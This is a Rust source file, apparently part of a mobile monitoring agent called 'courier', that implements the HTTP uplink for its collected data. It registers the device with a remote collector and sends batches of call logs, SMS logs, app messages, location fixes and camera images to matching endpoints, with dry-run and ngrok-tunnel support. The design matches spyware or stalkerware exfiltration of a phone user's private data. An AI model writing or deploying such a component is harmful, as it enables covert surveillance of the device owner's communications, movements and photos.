// # HTTP Uplink
//
// This crate delivers batches to the remote collector's HTTP API.
//
// ## Contract
//
// - One request per batch; full error propagation to the caller
// - NO retry logic (a failed batch is dropped; the overlapping sweep window
//   and the next watcher notice are the re-offer mechanism)
// - NO caching, NO background tasks, NO scheduling decisions
// - HTTP timeout configured (30 seconds by default)
// - Bearer token and transport headers attached to every request; the token
//   never appears in logs or Debug output
// - Dry-run mode for safe testing against a live collector
//
// ## TLS Trust
//
// Certificate validation is strict by default. `TlsMode::DangerAcceptInvalidCerts`
// disables it for development against self-signed collectors only; enabling
// it logs a warning at construction. There is no way to turn validation off
// without an explicit configuration value.
//
// ## Endpoints
//
// One logical endpoint per record kind, all under a single base URL:
//
// - `POST api/DeviceData/device-register`
// - `POST api/DeviceData/calllog`
// - `POST api/DeviceData/smslog`
// - `POST api/DeviceData/appMessage`
// - `POST api/DeviceData/locationlog`
// - `POST api/DeviceData/cameraImage`

use async_trait::async_trait;
use reqwest::header::{CONTENT_TYPE, HeaderMap, HeaderValue};
use std::time::Duration;

use courier_core::config::{TlsMode, UplinkConfig};
use courier_core::record::{DeviceIdentity, DeviceProfile, RecordKind, UploadBatch};
use courier_core::traits::{Uplink, UplinkFactory};
use courier_core::{ComponentRegistry, Error, Result};

pub mod wire;

/// Default HTTP timeout for collector requests
const DEFAULT_HTTP_TIMEOUT: Duration = Duration::from_secs(30);

/// Registration endpoint path
pub const REGISTER_ENDPOINT: &str = "api/DeviceData/device-register";

/// Endpoint path for a record kind, relative to the base URL
pub fn endpoint_for(kind: RecordKind) -> &'static str {
    match kind {
        RecordKind::Call => "api/DeviceData/calllog",
        RecordKind::Message => "api/DeviceData/smslog",
        RecordKind::AppMessage => "api/DeviceData/appMessage",
        RecordKind::LocationFix => "api/DeviceData/locationlog",
        RecordKind::ImageCapture => "api/DeviceData/cameraImage",
    }
}

/// HTTP uplink to the collector API
///
/// # Dry-Run Mode
///
/// When `dry_run` is true the uplink serializes every payload and logs the
/// request it would have made, without touching the network.
///
/// # Security
///
/// The Debug implementation intentionally does NOT expose the access token.
pub struct HttpUplink {
    /// Base URL of the collector, without trailing slash
    base_url: String,

    /// Static bearer token
    /// ⚠️ NEVER log this value
    access_token: String,

    /// HTTP client (timeout + default headers baked in)
    client: reqwest::Client,

    /// Dry-run mode: serialize and log, but do not send
    dry_run: bool,
}

impl std::fmt::Debug for HttpUplink {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("HttpUplink")
            .field("base_url", &self.base_url)
            .field("access_token", &"<REDACTED>")
            .field("dry_run", &self.dry_run)
            .finish()
    }
}

impl HttpUplink {
    /// Create a new HTTP uplink
    ///
    /// # Parameters
    ///
    /// - `base_url`: collector base URL (e.g. "https://collector.example.net")
    /// - `access_token`: static bearer token attached to every request
    /// - `tls_mode`: certificate validation mode (strict unless overridden)
    /// - `timeout`: per-request timeout
    /// - `dry_run`: if true, log intended requests instead of sending them
    pub fn new(
        base_url: impl Into<String>,
        access_token: impl Into<String>,
        tls_mode: TlsMode,
        timeout: Duration,
        dry_run: bool,
    ) -> Result<Self> {
        let access_token = access_token.into();
        if access_token.is_empty() {
            return Err(Error::config("collector access token cannot be empty"));
        }

        let base_url = base_url.into().trim_end_matches('/').to_string();
        if base_url.is_empty() {
            return Err(Error::config("collector base URL cannot be empty"));
        }

        // Headers shared by every request. The bearer token is attached per
        // request so it stays out of Debug output on the client.
        let mut headers = HeaderMap::new();
        headers.insert(CONTENT_TYPE, HeaderValue::from_static("application/json"));
        // Suppresses interstitial pages on tunneled development collectors.
        headers.insert(
            "ngrok-skip-browser-warning",
            HeaderValue::from_static("true"),
        );

        let mut builder = reqwest::Client::builder()
            .timeout(timeout)
            .default_headers(headers);

        if tls_mode == TlsMode::DangerAcceptInvalidCerts {
            tracing::warn!(
                "TLS certificate validation DISABLED for the uplink; \
                 this mode is for development collectors only"
            );
            builder = builder.danger_accept_invalid_certs(true);
        }

        let client = builder
            .build()
            .map_err(|e| Error::config(format!("failed to build HTTP client: {}", e)))?;

        Ok(Self {
            base_url,
            access_token,
            client,
            dry_run,
        })
    }

    /// Create an uplink with strict TLS and the default timeout (live mode)
    pub fn new_live(base_url: impl Into<String>, access_token: impl Into<String>) -> Result<Self> {
        Self::new(
            base_url,
            access_token,
            TlsMode::Strict,
            DEFAULT_HTTP_TIMEOUT,
            false,
        )
    }

    /// Create an uplink in dry-run mode (logs requests, sends nothing)
    pub fn new_dry_run(
        base_url: impl Into<String>,
        access_token: impl Into<String>,
    ) -> Result<Self> {
        Self::new(
            base_url,
            access_token,
            TlsMode::Strict,
            DEFAULT_HTTP_TIMEOUT,
            true,
        )
    }

    /// POST a JSON payload to an endpoint and map the response status
    async fn post_json(&self, endpoint: &str, payload: &serde_json::Value) -> Result<()> {
        let url = format!("{}/{}", self.base_url, endpoint);

        if self.dry_run {
            tracing::info!(
                endpoint,
                payload = %payload,
                "[DRY-RUN] would POST to collector"
            );
            return Ok(());
        }

        let response = self
            .client
            .post(&url)
            .bearer_auth(&self.access_token)
            .json(payload)
            .send()
            .await
            .map_err(|e| Error::transport(format!("request to {} failed: {}", endpoint, e)))?;

        let status = response.status();
        if status.is_success() {
            tracing::debug!(endpoint, status = %status, "collector accepted payload");
            return Ok(());
        }

        let body = response
            .text()
            .await
            .unwrap_or_else(|_| "unable to read error response".to_string());

        // Map HTTP status codes to specific messages; the caller drops the
        // batch either way, the distinction is diagnostic.
        Err(match status.as_u16() {
            401 | 403 => Error::uplink(
                endpoint,
                format!(
                    "authentication failed: invalid or expired token. Status: {}",
                    status
                ),
            ),
            413 => Error::uplink(
                endpoint,
                format!("payload too large, reduce batch caps. Status: {}", status),
            ),
            429 => Error::uplink(
                endpoint,
                format!("rate limited by collector. Status: {}", status),
            ),
            500..=599 => Error::uplink(
                endpoint,
                format!("collector server error (transient): {} - {}", status, body),
            ),
            _ => Error::uplink(endpoint, format!("request rejected: {} - {}", status, body)),
        })
    }
}

#[async_trait]
impl Uplink for HttpUplink {
    /// Register the device with the collector
    ///
    /// Sent once at agent start, before the first sweep.
    async fn register_device(
        &self,
        device: &DeviceIdentity,
        profile: &DeviceProfile,
    ) -> Result<()> {
        let payload = wire::RegistrationWire::new(
            device,
            profile,
            chrono::Utc::now().timestamp_millis(),
        );
        let value = serde_json::to_value(&payload)?;

        tracing::info!(device = %device, "registering device with collector");
        self.post_json(REGISTER_ENDPOINT, &value).await
    }

    /// Deliver one batch to the endpoint for its record kind
    ///
    /// Makes exactly one request. On any failure the error carries the
    /// status and response body for the caller's diagnostic log; the batch
    /// is not retried here.
    async fn send(&self, batch: &UploadBatch) -> Result<()> {
        if batch.is_empty() {
            return Ok(());
        }

        let endpoint = endpoint_for(batch.kind);
        let payload = wire::encode_batch(batch)?;

        tracing::debug!(
            endpoint,
            kind = %batch.kind,
            records = batch.len(),
            "sending batch to collector"
        );
        self.post_json(endpoint, &payload).await
    }

    fn uplink_name(&self) -> &'static str {
        "http"
    }
}

/// Factory for creating HTTP uplinks from configuration
pub struct HttpUplinkFactory;

impl UplinkFactory for HttpUplinkFactory {
    fn create(&self, config: &UplinkConfig) -> Result<std::sync::Arc<dyn Uplink>> {
        match config {
            UplinkConfig::Http {
                base_url,
                access_token,
                tls_mode,
                timeout_secs,
            } => {
                // Dry-run is an operational toggle, not a config file value.
                let dry_run = std::env::var("COURIER_MODE")
                    .unwrap_or_default()
                    .to_lowercase()
                    == "dry-run";

                if dry_run {
                    tracing::warn!("uplink running in DRY-RUN mode - nothing will be sent");
                }

                let uplink = HttpUplink::new(
                    base_url.clone(),
                    access_token.clone(),
                    *tls_mode,
                    Duration::from_secs(*timeout_secs),
                    dry_run,
                )?;
                Ok(std::sync::Arc::new(uplink))
            }
            _ => Err(Error::config("invalid config for HTTP uplink")),
        }
    }
}

/// Register the HTTP uplink with a registry
pub fn register(registry: &ComponentRegistry) {
    registry.register_uplink("http", Box::new(HttpUplinkFactory));
}
